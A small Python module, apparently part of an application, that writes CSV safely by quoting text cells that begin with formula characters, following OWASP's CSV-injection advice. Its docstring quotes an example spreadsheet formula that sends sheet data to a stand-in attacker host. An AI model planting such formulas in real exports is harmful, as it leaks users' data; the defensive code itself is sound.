"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, once a tab or CR is trimmed, whatever follows): a display name like
``=HYPERLINK("http://evil.example/?"&A1)`` would send the sheet's data away. OWASP's advice
("CSV Injection") is to start such a text cell with a single quote, which the spreadsheet shows
as text; numbers are written as they are, a negative count being no formula.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def cell(value):
    """``value`` as a spreadsheet will not run it; anything but text is left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def uncell(value: str) -> str:
    """The text ``cell`` was given: its quote dropped, so an exported file imports back as is."""
    if value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class writer:  # noqa: N801 -- a drop-in for csv.writer
    """``csv.writer`` whose rows go through ``cell``."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([cell(value) for value in row])
